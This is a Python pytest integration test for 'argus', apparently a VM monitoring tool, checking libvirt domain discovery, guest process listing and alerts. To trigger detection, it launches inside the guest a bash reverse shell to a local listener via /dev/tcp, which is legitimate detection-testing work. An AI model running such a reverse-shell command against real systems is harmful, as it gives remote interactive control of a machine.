"""A VM of a real libvirt: Debian's libvirtd runs a TCG domain defined the
ordinary way (no memoryBacking: its RAM is libvirt's memory-backend-ram,
anonymous memory of a process running as libvirt-qemu), and argus run,
with auto_scan and no systems listed, finds it by itself.

The domain is initialized under its libvirt name with its libvirt UUID,
argus's process list of it (vm:PID, the pid libvirt records) matches the
domain's own /proc, and a reverse shell inside it is alerted.  The domain
is destroyed and undefined whatever happens.
"""
import socket
import time

from conftest import Service
from domain import USER_HOST, Domain, Libvirtd
from test_discovery import named
from test_ps import argus_ps, compare, truth

SLEEP = "500ms"


def test_libvirt_domain(tmp_path):
    tag = int(time.time()) % 100000
    with Libvirtd():
        d = Domain(f"argus-lv{tag}")
        svc = Service(tmp_path, None, sleep=SLEEP, systems=False, argus="  auto_scan: true\n",
                      service="  user: nobody\n")
        attacker = None
        try:
            assert svc.wait_for(lambda m: m["activity_data"]["name"] ==
                                "Service Initialization Successful", timeout=20)
            d.start()
            # defined the ordinary way: libvirt chose the RAM, and it is anonymous
            assert "memoryBacking" not in d.dumpxml()
            cmd = d.cmdline()
            assert f"guest={d.name},debug-threads=on" in cmd
            assert any('"qom-type":"memory-backend-ram"' in a for a in cmd), cmd
            assert not any("share=on" in a or "memory-backend-file" in a for a in cmd), cmd

            ok = svc.wait_for(lambda m: named(m, d.name, "Host Initialization Successful"),
                              timeout=90)
            assert ok, f"domain {d.name} never initialized; see {svc.dir}"
            started = [m for m in svc.messages if named(m, d.name, "Host Initialization Started")]
            desc = started[-1]["activity_data"]["system_activity_details"]["description"]
            assert f"vm:{d.qemu_pid()}" in desc and d.uuid in desc, desc

            # its processes, read from outside, against its own /proc
            before = truth(d)
            seen = argus_ps(d.source)
            after = truth(d)
            bad, _ = compare(before, seen, after)
            assert not bad, "\n".join(bad)
            assert len(seen) > 20

            # monitored: a process born inside, and a reverse shell
            time.sleep(2 * svc.sleep_s)
            pid = d.spawn("exec sleep 30")
            assert svc.wait_for(lambda m: named(m, d.name, "Process Created") and
                                m["activity_data"]["process_details"]["process_id"] == pid,
                                timeout=10), "a process inside the domain was not seen"
            # to an attacker on another machine: a listener here, which the
            # domain's user-mode network reaches at its host address
            # (domain.USER_HOST) -- a listener inside would be no attacker
            attacker = socket.create_server(("127.0.0.1", 0))
            port = attacker.getsockname()[1]
            d.spawn(f"bash -c 'exec bash -i >& /dev/tcp/{USER_HOST}/{port} 0>&1'")
            assert svc.wait_for(lambda m: named(m, d.name, "Reverse Shell Detected"),
                                timeout=15), "the reverse shell inside the domain was not alerted"
            time.sleep(2 * svc.sleep_s + 0.2)      # and nothing more in the scans after
            svc.poll()
            alerts = [m["activity_data"]["name"] for m in svc.messages
                      if m["message_type"] == "ALERT" and named(m, d.name) and
                      m["activity_data"]["name"] not in Service.ROUTINE_ALERTS]
            assert alerts == ["Reverse Shell Detected"], alerts

            # destroyed: let go of
            d.stop()
            assert svc.wait_for(lambda m: named(m, d.name, "Details Gathering Failed") and
                                "is gone" in m["activity_data"]["system_activity_details"]
                                ["description"], timeout=20), "the domain's end was not told"
        finally:
            if attacker:
                attacker.close()
            d.stop()
            svc.stop(check_alerts=False)
